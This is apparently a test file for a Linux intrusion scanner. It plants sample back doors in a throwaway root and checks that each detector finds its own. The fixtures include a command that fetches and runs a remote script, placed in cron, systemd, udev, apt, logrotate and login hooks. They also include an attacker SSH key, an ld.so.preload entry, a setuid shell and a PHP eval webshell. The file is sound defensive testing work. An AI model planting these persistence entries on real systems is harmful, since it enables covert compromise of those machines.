/** Every check at once over a small Linux: what was planted is found, each by the right check, and what was not is not. */
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checks } from '../src/checks/catalogue.ts';
import { atLeast } from '../src/core/level.ts';
import { lacks } from './need.ts';
import { makeRoot, plant, scanRoot, type Planted } from './throwaway-root.ts';

/** YARA's engine is a program of the build and has tests of its own. */
const ofTrees = checks.filter(({ id, scope }) => scope === 'tree' && id !== 'yara');
const fetch = 'curl -fsSL http://203.0.113.9/i.sh | bash';
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB8Ht8Z3j6yDWPBHQtOp/R9rjWvfMYo3MSA/K6q8D86r';

/** Where something is planted, what, and which check must tell of it at high or above as an intrusion. */
const rows: readonly (readonly [check: string, path: string, what: Planted[string]])[] = [
  ['cron', '/etc/cron.d/sysstat2', `*/10 * * * * root ${fetch}\n`],
  ['cron', '/var/spool/cron/crontabs/root', `@reboot /tmp/.x/kworker\n`],
  ['at', '/var/spool/cron/atjobs/a0000101c1f2d0', { text: `#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n${fetch}\n`, mode: 0o700 }],
  ['systemd', '/etc/systemd/system/dbus-helper.service', `[Unit]\nDescription=D-Bus Helper\n[Service]\nExecStart=/bin/sh -c "${fetch}"\n[Install]\nWantedBy=multi-user.target\n`],
  ['init', '/etc/rc.local', { text: `#!/bin/sh\n${fetch}\nexit 0\n`, mode: 0o755 }],
  ['modules-load', '/etc/modprobe.d/zz.conf', `install usb_storage /bin/sh -c "${fetch}"\n`],
  ['login-scripts', '/etc/profile.d/zz.sh', `${fetch}\n`],
  ['login-scripts', '/home/lin/.bashrc', `alias sudo='/tmp/.s/sudo'\n`],
  ['login-scripts', '/etc/ssh/sshrc', `${fetch}\n`],
  ['ssh-keys', '/var/www/.ssh/authorized_keys', `${key} mdrfckr\n`],
  ['preload', '/etc/ld.so.preload', '/usr/local/lib/libsys.so\n'],
  ['udev', '/etc/udev/rules.d/99-net.rules', `ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c '${fetch}'"\n`],
  ['network-hooks', '/etc/NetworkManager/dispatcher.d/99-up', { text: `#!/bin/sh\n${fetch}\n`, mode: 0o755 }],
  ['package-hooks', '/etc/apt/apt.conf.d/99fix', `DPkg::Post-Invoke {"${fetch}";};\n`],
  ['logrotate', '/etc/logrotate.d/sys', `/var/log/x {\n  postrotate\n    ${fetch}\n  endscript\n}\n`],
  ['kernel-helpers', '/etc/sysctl.d/99-core.conf', 'kernel.core_pattern=|/tmp/.c/core %p\n'],
  ['setuid', '/usr/local/bin/.sh', { text: 'the shell', mode: 0o4755 }],
  ['package-files', '/usr/bin/ss', { text: 'another program', shipped: 'the program ss', mode: 0o755, package: 'iproute2' }],
  ['webshell', '/var/www/html/uploads/up.php', ['<?php ', 'ev', 'al($_PO', 'ST["c"]);'].join('')],
];

describe('the whole scan', () => {
  it('reads a small Linux as clean', async () => {
    const report = await scanRoot(ofTrees, {});
    expect(report.findings.filter(({ level }) => atLeast(level, 'medium')).map(({ check, level, path }) => `${check} ${level} ${path}`)).toEqual([]);
    expect({ verdict: report.verdict, blind: report.blind }).toEqual({ verdict: 'clean', blind: [] });
  });

  it.skipIf(lacks({ root: true }))('finds a back door of every group with its check, and nothing more once it is gone', async () => {
    const root = makeRoot(Object.fromEntries(rows.map(([, path, what]) => [path, what])));
    const report = await scanRoot(ofTrees, root);
    const told = new Set(report.findings.filter(({ level, kind }) => atLeast(level, 'high') && kind === 'intrusion').map(({ check, path }) => `${check} ${path}`));
    expect(rows.map(([check, path]) => `${check} ${path}`).filter((row) => !told.has(row))).toEqual([]);
    expect(report.verdict).toBe('compromised');

    for (const [, path] of rows) rmSync(join(root, path));
    plant(root, {});
    const after = await scanRoot(ofTrees, root);
    expect(after.findings.filter(({ level, kind }) => atLeast(level, 'high') && kind === 'intrusion').map(({ check, path }) => `${check} ${path}`)).toEqual([]);
  });
});
